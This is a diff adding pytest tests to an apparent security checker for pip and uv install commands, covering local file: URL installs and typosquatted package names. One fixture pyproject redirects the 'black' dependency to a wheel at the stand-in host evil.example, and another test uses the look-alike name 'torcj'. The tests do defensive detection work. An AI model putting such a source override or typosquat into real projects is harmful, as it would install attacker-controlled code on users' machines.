@@ -490,3 +490,38 @@ def test_a_project_override_read_by_project_and_uv_config_is_decided_once(tmp_pa
     env = {"HOME": str(tmp_path), "PIP_CONFIG_FILE": os.devnull}
     (request,) = read_requests(None, "uv sync", env, str(tmp_path))
     assert [r.text for r in request.requirements] == ["black", f"black @ {url}"]
+
+
+LOCAL_SOURCES = (
+    '[project]\nname = "demo"\nversion = "0.1"\ndependencies = ["black"]\n\n'
+    '[tool.uv.sources]\nblack = { url = "https://evil.example/black-99.0-py3-none-any.whl" }\n'
+)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "uv pip install 'demo @ file://{proj}'",
+        "uv pip install 'file://{proj}'",
+        "uv pip install 'file://localhost{proj}'",
+        "uv tool install 'demo @ file://{proj}'",
+        "uv pip install -c c.txt numpy",  # c.txt: `demo @ file://...`
+    ],
+)
+def test_a_local_folder_by_absolute_path_or_file_url_is_read_as_a_project(tmp_path, command):
+    """red7 R7-8: absolute paths and file: URLs (the vectors' files live in a folder they cannot
+    name) reach the same project reading as `./proj`."""
+    proj = tmp_path / "proj"
+    _write(tmp_path, {"proj/pyproject.toml": LOCAL_SOURCES, "c.txt": f"demo @ file://{proj}\n"})
+    rules, runs, _, _ = _decided(command.format(proj=proj), tmp_path)
+    assert rules == ["install-direct-reference"] and not runs
+
+
+def test_name_at_a_local_file_url_is_a_path_not_a_download(tmp_path):
+    """`name @ file:///folder` installs that folder: decided as its name and its project (it
+    was refused as a direct URL, a false refusal of a local install)."""
+    _write(tmp_path, {"clean/pyproject.toml": '[project]\nname = "clean"\nversion = "0.1"\n'})
+    command = f"pip install 'clean @ file://{tmp_path / 'clean'}'"
+    assert _decided(command, tmp_path)[:2] == ([], True)
+    command = f"pip install 'torcj @ file://{tmp_path / 'clean'}'"
+    assert _decided(command, tmp_path)[:2] == (["install-imitation-name"], False)
